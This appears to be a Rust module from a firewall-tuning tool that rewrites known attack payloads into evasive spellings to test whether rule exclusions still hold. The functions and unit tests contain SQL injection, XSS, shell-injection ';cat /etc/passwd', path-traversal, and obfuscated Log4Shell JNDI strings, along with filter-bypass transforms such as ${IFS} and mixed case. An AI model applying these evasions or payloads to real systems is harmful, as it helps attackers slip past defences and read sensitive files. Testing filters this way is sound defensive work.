//! Other spellings of known payloads: what an exclusion survives only in the spelling of the corpus, it does not survive.

use super::Attack;

/// How many spellings of a payload are returned, at most.
const MOST: usize = 4;

/// Words of SQL whose case does not count.
const SQL: &[&str] = &[
    "ALL",
    "ALTER",
    "AND",
    "ASCII",
    "BENCHMARK",
    "BETWEEN",
    "BY",
    "CASE",
    "CAST",
    "CHAR",
    "CONCAT",
    "CONVERT",
    "COUNT",
    "CREATE",
    "DATABASE",
    "DECLARE",
    "DELAY",
    "DELETE",
    "DROP",
    "ELSE",
    "EXEC",
    "EXECUTE",
    "EXISTS",
    "EXTRACTVALUE",
    "FROM",
    "GROUP",
    "HAVING",
    "IF",
    "IN",
    "INSERT",
    "INTO",
    "IS",
    "LIKE",
    "LIMIT",
    "LOAD_FILE",
    "MID",
    "NOT",
    "NULL",
    "OR",
    "ORDER",
    "OUTFILE",
    "PG_SLEEP",
    "PROCEDURE",
    "RLIKE",
    "SELECT",
    "SET",
    "SLEEP",
    "SUBSTR",
    "SUBSTRING",
    "TABLE",
    "THEN",
    "UNION",
    "UPDATE",
    "UPDATEXML",
    "USER",
    "VALUES",
    "VERSION",
    "WAITFOR",
    "WHEN",
    "WHERE",
    "XOR",
];

/// Up to four other spellings of an attack's payload with the same meaning, in a fixed order. None for a payload whose spelling counts.
pub(crate) fn variants(attack: &Attack) -> Vec<String> {
    let Some(payload) = attack.payload.as_deref() else { return Vec::new() };
    let made = match attack.category.as_str() {
        "sqli" => sql(payload),
        "xss" => html(payload),
        "rce" if attack.name.starts_with("rce-windows-") || attack.name.starts_with("rce-powershell-") => {
            windows(payload)
        }
        "rce" => shell(payload),
        "lfi" => path(payload),
        "php" => php(payload),
        "java" => java(payload),
        _ => Vec::new(),
    };
    let mut variants: Vec<String> = Vec::new();
    for variant in made {
        if variant != payload && !variants.contains(&variant) && variants.len() < MOST {
            variants.push(variant);
        }
    }
    variants
}

fn sql(payload: &str) -> Vec<String> {
    // NoSQL operators and JSON keep their case and their spaces.
    if payload.starts_with(['{', '[']) {
        return Vec::new();
    }
    let mixed = map_words(payload, |word, _| {
        SQL.iter().any(|known| known.eq_ignore_ascii_case(word)).then(|| mixed_case(word))
    });
    vec![mixed.clone(), spaced(payload, "/**/"), spaced(payload, "\t"), spaced(&mixed, "\n")]
}

/// With another separator of words in place of spaces. The space that makes `--` a comment stays, and so does what is in the comment.
fn spaced(payload: &str, separator: &str) -> String {
    let (statement, comment) =
        payload.find("--").map_or((payload, ""), |at| payload.split_at_checked(at).unwrap_or((payload, "")));
    format!("{}{comment}", statement.trim_end().replace(' ', separator))
}

fn html(payload: &str) -> Vec<String> {
    let is_tag = |before: &str| before.ends_with('<') || before.ends_with("</");
    let is_scheme = |word: &str| word.eq_ignore_ascii_case("javascript") || word.eq_ignore_ascii_case("vbscript");
    let is_event = |word: &str, before: &str| {
        word.len() > 3 && word.starts_with("on") && before.ends_with([' ', '/', '"', '\'', '\n'])
    };
    let mixed = map_words(payload, |word, before| {
        (is_tag(before) || is_scheme(word) || is_event(word, before)).then(|| mixed_case(word))
    });
    // Only what is within an attribute is decoded: the value of an event, an address.
    let in_attribute = !payload.to_ascii_lowercase().contains("<script") && payload.contains('<');
    let entity = map_words(payload, |word, before| {
        let decoded = in_attribute && !before.is_empty() && (word == "alert" || is_scheme(word));
        let first = word.chars().next().filter(|_| decoded)?;
        Some(format!("&#{};{}", u32::from(first), word.get(first.len_utf8()..).unwrap_or_default()))
    });
    let is_tag_only =
        payload.starts_with('<') && in_attribute && !payload.contains("style") && !payload.contains("://");
    let slashes = if is_tag_only { first_space(payload, "/") } else { payload.to_owned() };
    let lines = if is_tag_only { first_space(payload, "\n") } else { payload.to_owned() };
    vec![mixed, entity, slashes, lines]
}

/// With another separator of the name of a tag and its first attribute.
fn first_space(payload: &str, separator: &str) -> String {
    payload.replacen(' ', separator, 1)
}

fn shell(payload: &str) -> Vec<String> {
    // Within quotes a separator is text.
    if payload.contains(['\'', '"', '`']) {
        return Vec::new();
    }
    let command = payload.trim_end();
    let inner = |separator: &str| {
        let start = command.len() - command.trim_start_matches([' ', ';', '|', '&']).len();
        let (lead, rest) = command.split_at_checked(start).unwrap_or(("", command));
        format!("{lead}{}", rest.replace(' ', separator))
    };
    let quoted = map_words(command, |word, before| {
        let is_command =
            before.trim_start().len() <= 2 && before.trim_end().ends_with([';', '|', '&']) && word.len() > 1;
        let (first, rest) = word.split_at_checked(1).filter(|_| is_command)?;
        Some(format!("{first}''{rest}"))
    });
    vec![inner("${IFS}"), inner("\t"), quoted, command.replacen(';', "\n", 1)]
}

fn windows(payload: &str) -> Vec<String> {
    let mixed = map_words(payload, |word, _| (word.len() > 2).then(|| mixed_case(word)));
    let caret = map_words(payload, |word, before| {
        let is_command = before.trim_end().ends_with('&') && word.len() > 2;
        let (first, rest) = word.split_at_checked(1).filter(|_| is_command)?;
        Some(format!("{first}^{rest}"))
    });
    vec![mixed, caret]
}

fn path(payload: &str) -> Vec<String> {
    let mut made = vec![payload.replace("../", ".././"), payload.replace("../", "..//")];
    if payload.starts_with('/') && !payload.contains("..") {
        made.push(payload.replacen('/', "//", 1));
        made.push(payload.replacen('/', "/./", 1));
        made.push(format!("/..{payload}"));
    }
    made.push(payload.replace("../", "..\\"));
    made
}

fn php(payload: &str) -> Vec<String> {
    // Lengths and names of serialized objects count.
    if payload.contains(":{") {
        return Vec::new();
    }
    let calls = |change: fn(&str) -> String| {
        map_words(payload, |word, before| {
            let after = payload.get(before.len() + word.len()..).unwrap_or_default();
            (after.starts_with('(') && !before.ends_with(['$', '{'])).then(|| change(word))
        })
    };
    vec![
        calls(mixed_case),
        calls(|word| format!("{word} ")),
        calls(|word| format!("{word}/**/")),
        payload.replace("<?php", "<?PhP").replace("php://", "PhP://"),
    ]
}

fn java(payload: &str) -> Vec<String> {
    if !payload.contains("${jndi:") {
        return Vec::new();
    }
    ["${${lower:j}ndi:", "${j${upper:n}di:", "${${::-j}${::-n}di:", "${JNDI:"]
        .map(|name| payload.replace("${jndi:", name))
        .to_vec()
}

/// Replaces words of letters, digits and `_`. The function gets the word and what precedes it.
fn map_words(text: &str, mut replace: impl FnMut(&str, &str) -> Option<String>) -> String {
    let is_word = |character: char| character.is_ascii_alphanumeric() || character == '_';
    let mut mapped = String::with_capacity(text.len());
    let mut at = 0;
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
        let length = rest.find(|character| !is_word(character)).unwrap_or(rest.len());
        if length == 0 {
            let Some(other) = rest.chars().next() else { break };
            mapped.push(other);
            at += other.len_utf8();
            continue;
        }
        let word = rest.get(..length).unwrap_or_default();
        let replaced = replace(word, text.get(..at).unwrap_or_default());
        mapped.push_str(replaced.as_deref().unwrap_or(word));
        at += length;
    }
    mapped
}

/// Every second letter is large: `uNiOn`.
fn mixed_case(word: &str) -> String {
    let mut large = true;
    word.chars()
        .map(|letter| {
            large = !large;
            if large { letter.to_ascii_uppercase() } else { letter.to_ascii_lowercase() }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::control::tuning::corpus::attacks;

    fn of(name: &str, payload: &str) -> Vec<String> {
        let category = name.split('-').next().unwrap();
        let attack = serde_json::json!({"name": name, "category": category, "family": 900, "payload": payload});
        variants(&serde_json::from_value(attack).unwrap())
    }

    #[test]
    fn payloads_get_other_spellings() {
        assert_eq!(
            of("sqli-x", "1' UNION SELECT id FROM users-- -"),
            [
                "1' uNiOn sElEcT id fRoM users-- -",
                "1'/**/UNION/**/SELECT/**/id/**/FROM/**/users-- -",
                "1'\tUNION\tSELECT\tid\tFROM\tusers-- -",
                "1'\nuNiOn\nsElEcT\nid\nfRoM\nusers-- -",
            ]
        );
        assert_eq!(
            of("xss-x", "<img src=x onerror=alert(1)>"),
            [
                "<iMg src=x oNeRrOr=alert(1)>",
                "<img src=x onerror=&#97;lert(1)>",
                "<img/src=x onerror=alert(1)>",
                "<img\nsrc=x onerror=alert(1)>",
            ]
        );
        assert_eq!(of("xss-x", "javascript:alert(1)"), ["jAvAsCrIpT:alert(1)"]);
        assert_eq!(
            of("rce-x", ";cat /etc/passwd"),
            [";cat${IFS}/etc/passwd", ";cat\t/etc/passwd", ";c''at /etc/passwd", "\ncat /etc/passwd"]
        );
        assert_eq!(of("rce-windows-x", "& whoami /all"), ["& wHoAmI /aLl", "& w^hoami /all"]);
        assert_eq!(of("lfi-x", "../a"), [".././a", "..//a", "..\\a"]);
        assert_eq!(of("lfi-x", "/etc/passwd"), ["//etc/passwd", "/./etc/passwd", "/../etc/passwd"]);
        assert_eq!(of("php-x", "phpinfo()"), ["pHpInFo()", "phpinfo ()", "phpinfo/**/()"]);
        assert_eq!(of("java-x", "${jndi:ldap://a/b}").len(), 4);
    }

    #[test]
    fn a_payload_whose_spelling_counts_stays_as_it_is() {
        for (name, payload) in [
            ("sqli-x", "{\"$ne\": 1}"),
            ("php-x", "O:1:\"A\":1:{s:1:\"a\";i:1;}"),
            ("rce-x", "; echo 'a b'"),
            ("java-x", "java.lang.Runtime"),
            ("generic-x", "{{7*7}}"),
        ] {
            assert_eq!(of(name, payload), [""; 0], "{payload}");
        }
    }

    #[test]
    fn the_comment_that_ends_a_statement_stays_one() {
        assert_eq!(of("sqli-x", "1' OR 1=1 -- - x")[1], "1'/**/OR/**/1=1-- - x");
    }

    #[test]
    fn there_are_at_most_four_which_differ() {
        let mut total = 0;
        for attack in attacks() {
            let found = variants(attack);
            assert!(found.len() <= MOST, "{}", attack.name);
            for (at, variant) in found.iter().enumerate() {
                assert!(Some(variant) != attack.payload.as_ref() && !found[..at].contains(variant), "{}", attack.name);
            }
            assert_eq!(found, variants(attack), "{}", attack.name);
            total += found.len();
        }
        assert!(total > attacks().len(), "{total} variants");
    }
}
